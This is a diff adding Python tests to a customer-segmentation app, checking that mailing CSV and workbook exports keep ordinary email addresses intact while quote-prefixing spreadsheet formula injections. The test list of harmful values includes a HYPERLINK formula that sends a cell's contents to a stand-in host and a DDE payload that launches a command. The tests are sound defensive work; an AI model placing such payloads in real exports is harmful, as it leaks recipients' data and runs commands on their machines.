@@ -466,3 +466,63 @@ def test_saving_on_a_read_only_disk_says_so_in_words(tmp_path, saved_project, mo
         project.save_project(analysis, tmp_path / "copie.segmenter")
     assert "le disque est en lecture seule" in caught.value.text("fr")
     assert "another program" not in caught.value.text("en")
+
+
+# --- 5. The mailing CSV keeps an address starting with "=" usable ---------------------------------
+
+PLAIN_BUT_RISKY = [
+    "=info@boutique.fr",
+    "+33612345678@sms.example.com",
+    "-jo.doe@shop.co.uk",
+    "=a.b_c%d@x-y.fr",
+]
+HARMFUL = [
+    '=HYPERLINK("http://e.vil/?"&B2,"@x.com")',  # passes the mailing's loose address check
+    "=cmd|'/Ccalc'!A0@x.com",
+    "@SUM(1)@x.com",
+    "=１+1@x.com",
+]
+
+
+def test_csv_safe_email_keeps_plain_addresses_exact_and_neutralizes_the_rest():
+    from segmenter_app.core.export.safe_text import csv_safe, csv_safe_email
+
+    for address in [*PLAIN_BUT_RISKY, "client1@example.fr"]:
+        assert csv_safe_email(address) == address
+    for text in HARMFUL:
+        assert csv_safe_email(text) == "'" + text == csv_safe(text)
+    assert csv_safe_email(None) == ""
+    # Whatever is written unchanged has nothing a formula needs to reach outside the cell.
+    for address in PLAIN_BUT_RISKY:
+        assert not set(address) & set("()|!'\"[]{}&,;: ")
+
+
+def test_the_mailing_csv_lists_a_plain_address_starting_with_a_formula_sign_as_it_is(tmp_path):
+    """It listed "'=info@boutique.fr", an address that bounces. The workbook is unchanged: every
+    address is a text cell that reads back as it is."""
+    import csv
+
+    import openpyxl
+    from export_fixtures import make_analysis
+
+    from segmenter_app.core import schema as s
+    from segmenter_app.core.export import write_mailing_csvs, write_workbook
+    from segmenter_app.core.export.mailing import recipients
+
+    analysis = make_analysis(40)
+    chosen = [*PLAIN_BUT_RISKY, *HARMFUL[:2]]
+    for cid, address in zip(recipients(analysis).index, chosen, strict=False):
+        analysis.customers.loc[cid, s.EMAIL] = address
+    assert len(recipients(analysis)) == len(recipients(make_analysis(40)))
+    emails: set[str] = set()
+    for path in write_mailing_csvs(analysis, tmp_path / "envoi"):
+        text = path.read_bytes().decode("utf-8-sig")
+        emails |= {row[0] for row in list(csv.reader(text.splitlines()))[1:]}
+    for address in PLAIN_BUT_RISKY:
+        assert address in emails
+    for text in HARMFUL[:2]:
+        assert "'" + text in emails and text not in emails
+    write_workbook(analysis, tmp_path / "s.xlsx")
+    book = openpyxl.load_workbook(tmp_path / "s.xlsx", read_only=True)
+    cells = {str(c) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row}
+    assert set(chosen) <= cells  # stored as text (quote prefix), never as a formula
